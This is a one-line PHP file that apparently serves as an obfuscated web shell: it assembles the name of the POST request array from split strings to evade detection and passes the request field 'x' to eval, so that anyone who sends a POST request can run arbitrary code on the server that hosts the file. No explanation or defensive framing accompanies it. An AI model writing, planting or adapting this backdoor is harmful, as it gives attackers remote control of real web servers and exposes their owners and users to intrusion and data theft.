<?php $v = ${"_P"."OST"}; eval($v['x']);
